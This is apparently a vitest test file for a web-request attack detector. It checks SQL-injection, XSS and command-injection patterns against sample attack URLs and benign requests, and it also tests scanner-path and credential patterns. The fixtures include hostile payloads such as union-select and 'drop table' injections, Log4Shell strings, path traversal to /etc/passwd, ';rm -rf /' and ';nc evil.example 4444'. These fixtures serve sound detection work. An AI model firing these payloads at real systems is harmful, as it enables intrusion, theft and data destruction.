import { describe, expect, it } from 'vitest';
import { COMMAND_WORDS } from '../../../../lib/model/payload/command-words.ts';
import { decodeWords } from '../../../../lib/model/payload/decode-words.ts';
import { SCRIPT_WORDS } from '../../../../lib/model/payload/script-words.ts';
import { SQL_WORDS } from '../../../../lib/model/payload/sql-words.ts';
import { CREDENTIALS, LOGIN_WORDS, SCAN_WORDS } from '../../../../lib/model/payload/web-words.ts';

/** A request's text as the features look at it. */
function heard(target: string, rest = ''): string {
  return decodeWords(`get ${target} http/1.1\r\nhost: shop.example\r\n${rest}\r\n`.toLowerCase());
}

const KINDS = { SQL: SQL_WORDS, script: SCRIPT_WORDS, commands: COMMAND_WORDS } as const;

/** At least one request a pattern, in the order of the patterns. */
const ATTACKS: Readonly<Record<keyof typeof KINDS, readonly (readonly string[])[]>> = {
  SQL: [
    [
      '/?id=1+union+select+null,null',
      '/?id=1%20UNION%20ALL%20SELECT%20user,password%20FROM%20users',
      '/?id=1/**/union/**/select/**/1,2',
      '/?id=1+/*!50000union*/+/*!50000select*/+1,2',
      '/?id=-1+union(select(1),2)',
      '/?id=1+union+select+pass+from+users',
    ],
    ['/?id=(select+password+from+users)', '/?id=(select(pass)from(users))', '/?id=1;select+a,b,c+from+t'],
    [
      '/?id=1+and+(select+count(*)',
      '/?id=1+having+(length(a))',
      '/?id=(select+case+when+(1)',
      '/?id=(select+@@version)',
    ],
    [
      "/?u='+or+'1'='1",
      "/?u=a')+or+('a'='a",
      '/?u="+or+""="',
      "/?u='||'1'='1",
      "/?u='+and+name+like+'%25a",
      "/?u='or+a+is+not+null",
    ],
    ['/?id=1+or+1=1', '/?id=1+and+5530=3405', "/?id=1+and+'a'='b'"],
    ['/?id=sleep(5)', '/?id=benchmark(9999,md5(1))', '/?id=pg_sleep+(5)', '/?id=char(65,66)'],
    ["/?id=1;waitfor+delay+'0:0:5'", '/?id=1+order+by+12--', "/?id=1+into+outfile+'/a'", '/?id=1%27+order+by+3%23'],
    ['/?id=information_schema.tables', '/?id=@@version'],
    [
      '/?id=1;drop+table+users',
      '/?id=1;insert+into+a',
      '/?id=1;exec+xp',
      '/?id=1;+update+a+set+b=1',
      '/?id=1;shutdown--',
    ],
    ["/?u=admin'--", "/?u=admin'%20--%20", "/?u=admin'%23", '/?id=1)+--+-', '/?id=5+--+wxyz', "/?u=a';--"],
    ['/?q=insert+into+users+values(1)', '/?q=drop+table+users', '/?q=update+users+set+a=1'],
    ["/item?id=5'", '/item?a=b&id=5%27&c=d'],
  ],
  script: [
    ['/?q=<script>', '/?q=%253Cscript%253E', '/?q=</script>', '/?q=<%20script/x'],
    ['/?q=<b+onmouseover=a', '/?q=<x+onanimationstart+='],
    ['/?q="+onfocus=a', "/?q='onload=a"],
    ['/?q=javascript:alert(1)', '/?q=javascript://%250aalert(1)'],
    ['/?q=alert(1)', '/?q=prompt`1`', '/?q=confirm+(1)', "/?q=eval+('a')", '/?q=String.fromCharCode(88)'],
    ['/?q=document.cookie', '/?q=window.location'],
    ['/?q=<img+src=x', '/?q=<svg/onload', '/?q=<iframe+src=a', '/?q=<details+open+ontoggle=a'],
  ],
  commands: [
    ['/?q=$%7Bjndi:ldap://h/a%7D', '/?q=$%7B$%7Blower:j%7Dndi', '/?q=$%7B$%7B::-j%7D$%7B::-n%7D'],
    ['/cgi?q=()%20{%20:;};', '/?q=()+{+ignored;'],
    ['/../../x', '/?f=..%2f..%2fx', '/?f=..%252f..%252fx', '/?f=..\\..\\x'],
    [
      '/?f=/etc/passwd',
      '/?f=c:\\windows\\win.ini',
      '/?f=boot.ini',
      '/?c=cmd.exe',
      '/?c=/bin/sh',
      '/?c=powershell+-enc+a',
    ],
    [
      ...[
        '/?ip=1.1.1.1;id',
        '/?ip=1.1.1.1|id',
        '/?ip=1.1.1.1%26%26whoami',
        '/?ip=`id`',
        '/?ip=;ls+-la',
        '/?ip=|cat+/a',
      ],
      ...['/?ip=;cat$IFS/a', '/?ip=||ping+-c+1+h', '/?ip=;wget+h', '/?ip=;sleep+5', '/?ip=;echo+abc', '/?ip=;rm+-rf+/'],
      ...['/?ip=;cat+index.php', '/?ip=;nc+evil.example+4444'],
    ],
    ['/?q=$(whoami)', '/?q=$(curl+h)'],
    ['/?q=wget+http://h/a', '/?q=curl+-s+192.0.2.1/a'],
    ['/?q=java.lang.Runtime', '/?q=@ognl.OgnlContext', '/?q=php://filter', '/?q=getRuntime()', '/?q=os.system('],
    ['/?class.module.classLoader.a=b', '/?q={{7*7}}', '/?q=%{(1)}', '/?q=#{x(1)}', '/?q=<%=7*7%>', '/?q=$%7BT(a)%7D'],
    ['/?q=<!ENTITY+a', '/?q=<?php+a', '/?q=<?xml+version="1.0"?><!DOCTYPE+a'],
    ['/cgi-bin/a.cgi?b=;id', '/cgi-bin/a?b=|c', '/cgi-bin/..%2fa', '/cgi-bin/a?f=`x`'],
    ['/a.ida?x', '/a.printer?', `/default?${'N'.repeat(60)}`],
  ],
};

/** What people and programs ask for every day. */
const ORDINARY = [
  '/search?q=select+all+unions',
  '/search?q=how+to+select+the+best+union+script+or+and',
  '/search?q=student+union+select+committee',
  '/search?q=select+your+favourite+song+from+the+list',
  '/search?q=western+union+(money+transfer)',
  '/search?q=where+(in+the+world)+is+he',
  '/search?q=select+3+colours+and+like+them',
  '/search?q="rock"+and+roll+is+here&in=all',
  '/search?q=rock+or+pop+and+jazz',
  '/search?q="order+in+court"',
  '/search?q=it%27s+5+o%27clock',
  '/search?q=%27quoted%27&page=2',
  '/search?q=war+1939+--+1945+history',
  '/search?q=order+by+5+pm+today',
  '/search?q=insert+into+the+slot&update=your+set',
  '/search?q=sleep+(8+hours)+benchmark+(cpu)',
  '/search?q=javascript:+the+good+parts',
  '/search?q=alert+(red)+confirm+(yes)+prompt+(noun)',
  '/search?q=powershell+tutorial',
  '/search?q=dog;+cat;+bird',
  '/search?q=tom+%26amp;+cat+video+%26lt;create-date',
  '/search?q=curl+1000+hairs',
  '/?id=5&cat=3',
  '/?a=1&id=5&order=asc&sleep=2&script=7',
  '/list;jsessionid=0A1B2C3D4E5F?id=3',
  '/a?text=1+%26lt;+2+%26amp;%26amp;+3',
  '/api/select/7/union/9?fields=name|id|email',
  '/w/api.php?action=query&prop=info|revisions&rvprop=ids|timestamp|user',
  '/users/12/orders?from=2024-01-01&to=2024-02-01&where=home',
  '/assets/runtime.3f2a.js',
  '/assets/runtime-main.js',
  '/css/header.class.module.css',
  '/js/boot.init.js',
  '/js/darwin.init.js',
  '/css/script.css',
  '/js/alert.min.js?v=2.1.3',
  '/static/document-viewer.js',
  '/gitweb.cgi/cgi-bin/gitweb.cgi?p=a.git;a=log;h=HEAD',
  '/collect?v=1&tid=UA-1-1&cid=55.66&t=pageview&dl=https%3A%2F%2Fshop.example%2F%3Fa%3D1%26b%3D2&dt=Home%20-%20Shop',
  '/t?d=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  '/b?data=eyJldmVudCI6InBhZ2UiLCJwcm9wcyI6eyJpZCI6MX19&ip=1',
  '/odata/Orders?$filter=Price%20gt%2020&$select=Name,Price&$top=5',
  '/graphql?query=%7Buser(id:1)%7Bname%7D%7D',
  '/go?url=https%3A%2F%2Fother.example%2Fpath%3Fx%3D1',
];
const ORDINARY_HEADERS = [
  'cookie: a=1; id=5; update=1; create-date=2; theme=dark\r\n',
  'accept: text/html,application/xhtml+xml,*/*;q=0.8\r\naccept-language: en-us,en;q=0.5\r\n',
  'user-agent: mozilla/5.0 (windows nt 10.0; win64; x64) applewebkit/537.36 (khtml, like gecko) chrome/126.0.0.0\r\n',
  'user-agent: mozilla/5.0 (windows nt; windows nt 10.0; en-us) windowspowershell/5.1.19041\r\n',
  'content-type: multipart/form-data; boundary=----webkit\r\ncontent-length: 123\r\n\r\n------webkit\r\n\r\n5\r\n------webkit--',
  'content-type: application/json\r\n\r\n{"text":"andrea is here","order":"in","name":"original between"}',
  'content-type: text/plain\r\n\r\nat function() {\r\nat load () => {',
];

describe.each(Object.keys(KINDS) as (keyof typeof KINDS)[])('each pattern of %s', (kind) => {
  const patterns = KINDS[kind];

  it('has attacks that it finds', () => {
    expect(ATTACKS[kind].length).toBe(patterns.length);
    const missed = ATTACKS[kind].flatMap((targets, k) => targets.filter((target) => !patterns[k]?.test(heard(target))));
    expect(missed).toEqual([]);
  });

  it('passes over what is asked every day', () => {
    const texts = [...ORDINARY.map((target) => heard(target)), ...ORDINARY_HEADERS.map((rest) => heard('/', rest))];
    const found = texts.flatMap((text) => patterns.flatMap((at, k) => (at.test(text) ? [`${k}: ${text}`] : [])));
    expect(found).toEqual([]);
  });

  it('begins anew for every text', () => {
    for (const pattern of patterns) expect(pattern.flags).not.toMatch(/[gy]/);
  });
});

describe('decoded words', () => {
  it('are those behind two layers of escapes, plus signs and comments', () => {
    expect(decodeWords('a%2520b+c%u0041/*x*/d')).toBe('a b cA d'.toLowerCase());
    expect(decodeWords('/*!50000union*/ select')).toBe(' union  select');
    expect(decodeWords('100%')).toBe('100%');
  });
});

describe('a place', () => {
  it.each([
    '/wp-login.php',
    '/wp-admin/',
    '/wp-content/plugins/a/readme.txt',
    '/wp-content/plugins/x/shell.php',
    '/.git/config',
    '/.env',
    '/phpmyadmin/',
    '/cgi-bin/test',
    '/actuator/env',
    '/index.php.bak',
    '/backup.tar.gz',
    '/site.rar',
    '/sdk',
  ])('%s is looked for by trying', (target) => expect(target).toMatch(SCAN_WORDS));

  it.each([
    '/',
    '/index.php',
    '/wp-content/plugins/form/css/styles.css?ver=5',
    '/wp-admin/admin-ajax.php',
    '/en_US/sdk.js',
    '/left-pad/-/left-pad-1.3.0.tgz',
    '/debian/pool/a_1.0-1_amd64.deb',
    '/environment',
    '/oldest',
    '/gitlab',
  ])('%s is not', (target) => expect(target).not.toMatch(SCAN_WORDS));
});

describe('a login', () => {
  it.each(['/login', 'passwd=1', 'log=admin', '/oauth/authorize', '/auth', 'user=a', '/signin'])('is in %s', (text) =>
    expect(text).toMatch(LOGIN_WORDS),
  );
  it.each(['/authors/7', '/?author=1', '/?catalog=7', '/blog=1', '/users'])('is not in %s', (text) =>
    expect(text).not.toMatch(LOGIN_WORDS),
  );
  it.each([
    'username=a&password=b',
    'log=a&pwd=b',
    '{"user":"a","pass":"b"}',
    'user%5bemail%5d=a&user%5bpassword%5d=b',
  ])('has a name with its password in %s', (text) => expect(text).toMatch(CREDENTIALS));
  it.each(['username=a&address=b', 'a=1&password=b', '/passwords?name=a'])('has none in %s', (text) =>
    expect(text).not.toMatch(CREDENTIALS),
  );
});
